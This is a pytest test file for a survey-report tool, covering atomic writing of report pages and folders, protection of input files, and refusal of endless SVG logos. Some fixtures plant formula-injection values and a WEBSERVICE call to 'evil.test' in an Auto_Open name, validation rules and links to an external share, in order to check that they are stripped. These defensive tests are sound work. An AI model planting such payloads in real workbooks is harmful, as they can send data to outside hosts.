"""Places that are written and read at once, pages with folders, and pictures that never end.

What a page links to lies where the links say, or nothing does; mappings and instruments are never written over; pipes
and devices stay what they are; a logo takes neither time nor depth.
"""

from __future__ import annotations

import errno
import io
import os
import re
import shutil
import zipfile
from io import BytesIO
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

import servicediag as sd
from servicediag.cli import app
from servicediag.errors import ResponsesError
from servicediag.files import atomic_path
from servicediag.report.logo import Logo
from servicediag.report.unit_files import folder_of, page_place, write_with_folder

SINS = ("-i", "seven-sins:customer-short")
UNIT = ("--unit", "Branch")


@pytest.fixture
def export(workbook, rows):
    return workbook(rows(["North", "South"]))


def left(folder: Path) -> list[str]:
    return sorted(entry.name for entry in folder.iterdir())


# --- a page and the folder beside it ----------------------------------------------------------------------------------


def test_pages_of_units_lie_where_the_page_of_the_command_says(workbook, rows, tmp_path, command):
    export = workbook(rows([f"Unit {number}" for number in range(62)], 6))
    out = tmp_path / "out"
    out.mkdir()
    for force in ((), ("--force",)):
        outcome = command("diagnose", export, *SINS, *UNIT, "-o", out / "my report.html", *force)
        assert outcome.kind == "done", outcome.text
        assert left(out) == ["my report-units", "my report.html"]
    page = (out / "my report.html").read_text(encoding="utf-8")
    linked = re.findall(r'href="my%20report-units/([^"]+)"', page)
    assert sorted(linked) == left(out / "my report-units")
    back = (out / "my report-units" / linked[1]).read_text(encoding="utf-8")
    assert 'href="../my%20report.html"' in back
    (out / "my report-units" / "mine.txt").write_text("mine")
    outcome = command("diagnose", export, *SINS, *UNIT, "-o", out / "my report.html", "--force")
    assert outcome.value == 1
    assert (out / "my report-units" / "mine.txt").read_text() == "mine"
    assert left(out) == ["my report-units", "my report.html"]
    (out / "my report-units" / "mine.txt").unlink()
    few = workbook(rows(["North", "South"]), "few.xlsx")
    outcome = command("diagnose", few, *SINS, *UNIT, "-o", out / "my report.html", "--force")
    assert outcome.kind == "done", outcome.text
    assert left(out) == ["my report.html"]


@pytest.mark.parametrize("earlier", [False, True])
@pytest.mark.parametrize("step", [0, 1, "page", "text"])
@pytest.mark.parametrize("error", [KeyboardInterrupt, MemoryError, OSError])
def test_break_between_a_page_and_its_folder_leaves_both_as_they_were(step, error, earlier, tmp_path, monkeypatch):
    page = tmp_path / "r.html"
    if earlier:
        write_with_folder(page, "old", {"0000-a.html": "old a", "0001-b.html": "old b"})
    honest, calls = Path.rename, []

    def rename(self, target):
        calls.append(target)
        if len(calls) - 1 == step:
            raise error
        return honest(self, target)

    def replace(source, target):
        if str(target) == str(page):
            raise error
        return os.rename(source, target)

    monkeypatch.setattr(Path, "rename", rename)
    if step == "page":
        monkeypatch.setattr(os, "link", replace)
        monkeypatch.setattr(os, "replace", replace)
    files = {"0000-c.html": "new c"} | ({"0001-d.html": "\ud800"} if step == "text" else {})
    broken = (error, UnicodeEncodeError)
    if step == 1 and not earlier:
        write_with_folder(page, "new", files)  # there is no second step
        return
    with pytest.raises(broken):
        write_with_folder(page, "new", files, overwrite=True)
    monkeypatch.undo()
    assert left(tmp_path) == (["r-units", "r.html"] if earlier else [])
    if earlier:
        assert page.read_text() == "old"
        assert left(folder_of(page)) == ["0000-a.html", "0001-b.html"]


LINKING = '<a href="r-units/0000-a.html">a</a> <a href="r-units/0001-b.html">b</a>'


@pytest.fixture
def earlier(tmp_path):
    """A page that links to all of its folder."""
    page = tmp_path / "r.html"
    write_with_folder(page, LINKING, {"0000-a.html": "a", "0001-b.html": "b"})
    return page


def test_folder_of_an_earlier_page_goes_with_it(earlier, tmp_path):
    with page_place(earlier, overwrite=True) as place:
        write_with_folder(place, "new", {})
    assert earlier.read_text() == "new"
    assert left(tmp_path) == ["r.html"]


@pytest.mark.parametrize("other", ["mine.txt", "2024.html", "folder", "link", "no page", "nothing in it"])
def test_folder_that_is_more_than_the_pages_of_an_earlier_one_is_left_alone(other, earlier, tmp_path):
    folder = folder_of(earlier)
    if other == "folder":
        (folder / "0002-c.html").mkdir()
    elif other == "link":
        folder.rename(tmp_path / "elsewhere")
        folder.symlink_to(tmp_path / "elsewhere")
    elif other == "no page":
        earlier.write_bytes(b"\xff")
    elif other == "nothing in it":
        shutil.rmtree(folder)
        folder.mkdir()
    else:
        (folder / other).write_text("mine")
    before = left(folder), left(tmp_path)
    write_with_folder(earlier, "new", {}, overwrite=True)
    assert earlier.read_text() == "new"
    assert (left(folder), left(tmp_path)) == before


@pytest.mark.parametrize("at", ["folder", "page"])
@pytest.mark.parametrize("error", [KeyboardInterrupt, MemoryError, OSError])
def test_break_while_a_folder_is_taken_away_leaves_it(error, at, earlier, tmp_path, monkeypatch):
    def broken(*_):
        raise error

    # the page is put in place by os.replace, after the folder was moved by Path.rename
    honest = os.replace
    if at == "folder":
        monkeypatch.setattr(Path, "rename", broken)
    else:
        monkeypatch.setattr(os, "replace", lambda one, two: broken() if two == earlier else honest(one, two))
    with pytest.raises(error):
        write_with_folder(earlier, "new", {}, overwrite=True)
    monkeypatch.undo()
    assert earlier.read_text() == LINKING
    assert left(tmp_path) == ["r-units", "r.html"]
    assert left(folder_of(earlier)) == ["0000-a.html", "0001-b.html"]


@pytest.mark.parametrize("name", ["n" * 300 + ".xlsx", "n" * 300 + ".html", "n" * 250 + ".html"])
def test_name_that_is_too_long_is_refused_before_the_work_begins(name, export, tmp_path, command):
    try:
        os.lstat(tmp_path / ("n" * 300))
    except FileNotFoundError:
        pytest.skip("the file system takes longer names")
    except OSError:
        pass
    # reading would break: it is never begun
    broken = "servicediag.cli.read_exports: MemoryError"
    before = left(tmp_path)
    outcome = command("diagnose", export, *SINS, *UNIT, "-o", tmp_path / name, break_at=broken)
    assert outcome.value == 1
    assert "too long" in outcome.text
    assert "shorter" in outcome.text
    assert "close it" not in outcome.text
    assert left(tmp_path) == before


# --- what is read is never written ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command_line", "name"),
    [
        (("check", "EXPORT", *SINS, "--save-mapping", "PLACE"), "m.csv"),
        (("check", "EXPORT", *SINS, "--save-mapping", "PLACE"), "m.yaml"),
        (("reliability", "EXPORT", *SINS, "-o", "PLACE"), "m.csv"),
        (("diagnose", "EXPORT", *SINS, *UNIT, "-o", "PLACE"), "m.json"),
    ],
)
def test_mapping_that_is_read_is_never_written(command_line, name, export, tmp_path, command):
    mapping = tmp_path / name
    made = mapping.with_suffix(".yaml" if mapping.suffix == ".json" else mapping.suffix)
    assert command("check", export, *SINS, "--save-mapping", made).value == 0
    made.rename(mapping)
    before = mapping.read_bytes()
    named = {"EXPORT": export, "PLACE": tmp_path / "." / name}
    outcome = command(*(named.get(part, part) for part in command_line), "--columns", mapping, "--force")
    assert outcome.value == 2
    assert "read as well" in outcome.text
    assert mapping.read_bytes() == before


@pytest.mark.parametrize("part", ["instrument.yaml", "locale/en.yaml"])
@pytest.mark.parametrize("given", ["", "instrument.yaml"])
def test_instrument_that_is_read_is_never_written(part, given, export, tmp_path, command):
    from servicediag.instrument import instruments_root

    own = tmp_path / "seven-sins"
    shutil.copytree(str(instruments_root().joinpath("seven-sins")), own)
    before = (own / part).read_bytes()
    named = f"{own / given}:customer-short"
    outcome = command("check", export, "-i", named, "--save-mapping", own / part, "--force")
    assert outcome.value == 2
    assert "read as well" in outcome.text
    assert (own / part).read_bytes() == before


@pytest.mark.skipif(os.name == "nt", reason="links need a privilege on Windows")
def test_second_name_of_the_export_is_the_export(export, tmp_path, command):
    os.link(export, tmp_path / "second.xlsx")
    outcome = command("score", export, *SINS, "-o", tmp_path / "second.xlsx", "--force")
    assert outcome.value == 2
    assert "export itself" in outcome.text


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="the system has no named pipes")
def test_pipe_is_never_replaced_by_a_file(tmp_path):
    pipe = tmp_path / "pipe.html"
    os.mkfifo(pipe)
    with pytest.raises(FileExistsError, match="pipe or a device"), atomic_path(pipe, overwrite=True):
        pass
    assert pipe.is_fifo()
    assert left(tmp_path) == ["pipe.html"]


def test_interrupt_after_the_files_were_written_does_not_say_that_none_was(export, tmp_path, command):
    out = tmp_path / "r.json"
    outcome = command(
        "diagnose", export, *SINS, *UNIT, "-o", out, break_at="servicediag.report.print_diagnosis: KeyboardInterrupt"
    )
    assert outcome.value == 130
    assert out.is_file()
    assert "nothing was written" not in outcome.text


@pytest.mark.parametrize("option", ["", "--columns", "--targets", "--indicators", "--rules", "--theme", "--ledger"])
def test_file_that_may_not_be_read_is_a_fault_of_the_file(option, export, tmp_path, monkeypatch):
    given = (option, tmp_path / "given.yaml") if option else ()
    locked = str(given[1] if option else export)
    (tmp_path / "given.yaml").write_text("a: 1")
    honest = io.open

    def refusing(file, *arguments, **keywords):
        if str(file) == locked:
            raise PermissionError(errno.EACCES, "Permission denied", locked)
        return honest(file, *arguments, **keywords)

    # whoever runs the tests may read everything
    monkeypatch.setattr(os, "access", lambda path, *_, **__: str(path) != locked)
    monkeypatch.setattr(io, "open", refusing)
    told = ("diagnose", export, *SINS, *UNIT, *given, "-o", tmp_path / "r.json")
    outcome = CliRunner().invoke(app, [str(part) for part in told])
    assert outcome.exit_code == 1, outcome.output
    assert "Permission denied" in outcome.output
    assert Path(locked).name in outcome.output
    assert left(tmp_path) == ["export.xlsx", "given.yaml"]


# --- texts ------------------------------------------------------------------------------------------------------------


def test_name_that_nothing_has_is_wrong_usage_of_lint(command):
    outcome = command("lint", "no-such-instrument")
    assert outcome.value == 2
    assert "no-such-instrument" in outcome.text


def test_refused_argument_is_shown_without_control_characters(export, command):
    outcome = command("check", export, *SINS, "--limit", "\x1b[31mx\u202e")
    assert outcome.value == 2
    assert not set("\x1b\u202e") & set(outcome.text)


def test_name_of_a_file_that_is_no_text_can_be_reported(rows, workbook, tmp_path):
    export = workbook(rows(["North"]))
    odd = tmp_path / "caf\udce9.xlsx"
    try:
        export.rename(odd)
    except (OSError, UnicodeError):
        pytest.skip("the file system takes no such name")
    intake = sd.read_responses(odd, "seven-sins", form="customer-short").intake
    assert "caf\ufffd.xlsx" in intake.to_text()
    intake.to_json(tmp_path / "intake.json")
    assert "caf\ufffd.xlsx" in (tmp_path / "intake.json").read_text(encoding="utf-8")


@pytest.mark.parametrize("heading", ["Question\r\none", "Sa\u202eles", "nul\x01"])
def test_mapping_that_could_not_be_read_again_is_not_written(heading, rows, tmp_path):
    head, *body = rows(["North"], 12)
    frame = pd.DataFrame(body, columns=["Branch", heading, *head[2:]], dtype=object)
    read = {"instrument": "seven-sins", "form": "customer-short", "unit": "Branch"}
    first = sd.read_responses(frame, **read, columns={heading: head[1]})
    with pytest.raises(ResponsesError, match="csv"):
        first.intake.save_mapping(tmp_path / "m.yaml")
    first.intake.save_mapping(tmp_path / "m.csv")
    assert left(tmp_path) == ["m.csv"]
    again = sd.read_responses(frame, **read, columns=tmp_path / "m.csv")
    assert again.answers.equals(first.answers)


@pytest.fixture
def strange(rows):
    """A diagnosis of units that are called like a formula and like the whole."""
    head, *body = rows(["=1+1", "\u3000＝cmd", "Whole organisation", "North"], 12)
    frame = pd.DataFrame(body, columns=head, dtype=object)
    return sd.diagnose(sd.read_responses(frame, "seven-sins", form="customer-short", unit="Branch"), by="unit")


def test_workbook_of_a_chart_marks_texts_that_look_like_formulas(strange, tmp_path):
    pytest.importorskip("pptx")
    strange.to_slides(tmp_path / "r.pptx")
    found = 0
    with zipfile.ZipFile(tmp_path / "r.pptx") as slides:
        for part in (name for name in slides.namelist() if name.endswith(".xlsx")):
            for row in openpyxl.load_workbook(BytesIO(slides.read(part)))["Sheet1"].iter_rows():
                for cell in (cell for cell in row if str(cell.value).lstrip("\u3000").startswith(("=", "＝"))):
                    found += 1
                    assert cell.data_type == "s"
                    assert cell.quotePrefix
    assert found


def test_unit_that_is_called_like_the_whole_is_told_apart_from_it(strange, tmp_path):
    strange.to_html(tmp_path / "r.html")
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert "Scores of Whole organisation (2)" in page
    assert "Scores of North" in page


# --- what takes long --------------------------------------------------------------------------------------------------

_HEAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 50">'
    '<rect id="a0" width="9" height="9"/>'
)


def _repeating(levels: int, times: int) -> str:
    return "".join(
        f'<g id="a{level}">{f"""<use xlink:href="#a{level - 1}"/>""" * times}</g>' for level in range(1, levels)
    )


@pytest.mark.parametrize(
    ("shapes", "said"),
    [
        ("<g>" * 30_000 + "</g>" * 30_000, "nested"),
        (_repeating(40, 10), "draws more than"),
        (_repeating(3_000, 1), "nested"),
        ('<g id="x"><use href="#y"/></g><g id="y"><use href="#x"/></g>', "nested"),
        ("".join(f'<mask id="m{n}">{f"""<rect mask="url(#m{n - 1})"/>""" * 9}</mask>' for n in range(30)), "draws"),
    ],
    ids=["deep", "repeated", "chain", "circle", "masks"],
)
def test_logo_that_never_ends_is_refused(shapes, said):
    with pytest.raises(ValueError, match=said):
        Logo(f"{_HEAD}{shapes}</svg>".encode())


def test_logo_that_repeats_a_shape_is_taken():
    assert Logo(f"{_HEAD}{_repeating(4, 8)}</svg>".encode()).kind == "svg"


@pytest.mark.parametrize("arguments", [("--units", 1_000_000), ("--scales", 100_000_000)])
def test_plan_that_memory_would_not_do_is_refused(arguments, command):
    assert command("plan", *arguments).value == 2


# --- the annotated copy -----------------------------------------------------------------------------------------------


def test_annotated_copy_keeps_no_formula_outside_the_cells_either(tmp_path, rows, workbook, command):
    from openpyxl.chart import BarChart
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation
    from openpyxl.worksheet.table import Table, TableFormula

    path = workbook(rows(["North"]))
    book = openpyxl.load_workbook(path)
    sheet = book["Answers"]
    sheet["C3"] = "no answer of the scale"
    asks = 'WEBSERVICE("http://evil.test")'
    for name, place in (("Auto_Open", asks), ("there", "'[\\\\evil\\share\\x.xlsx]S'!$A$1")):
        book.defined_names[name] = DefinedName(name, attr_text=place)
    sheet.defined_names["here"] = DefinedName("here", attr_text=asks)
    sheet.conditional_formatting.add("A1:B9", FormulaRule(formula=[f'{asks}="x"']))
    for cells, kind, formula in (("A2:A9", "list", asks), ("B2:B9", "custom", asks), ("C2:C9", "list", "$A$1:$A$9"),
                                 ("D2:D9", "list", '"Never,Always"')):  # fmt: skip
        rule = DataValidation(type=kind, formula1=formula)
        rule.add(cells)
        sheet.add_data_validation(rule)
    table = Table(displayName="T", ref="A1:C5")
    table._initialise_columns()
    for column, cell in zip(table.tableColumns, sheet[1], strict=False):
        column.name = str(cell.value)
    table.tableColumns[1].calculatedColumnFormula = TableFormula(attr_text=asks)
    sheet.add_table(table)
    for place in (sheet, book.create_chartsheet()):
        chart = BarChart()
        chart.add_data("'[\\\\evil\\share\\x.xlsx]S'!$A$1:$A$4")
        place.add_chart(chart)
    book.save(path)
    copy = tmp_path / "copy.xlsx"
    outcome = command("check", path, *SINS, "--annotate", copy)
    assert copy.is_file(), outcome.text
    with zipfile.ZipFile(copy) as archive:
        for part in archive.namelist():
            assert not re.search(r"evil|WEBSERVICE|chartsheet", archive.read(part).decode("utf-8")), part
    kept = openpyxl.load_workbook(copy)["Answers"].data_validations.dataValidation
    assert [rule.formula1 for rule in kept] == ["$A$1:$A$9", '"Never,Always"']
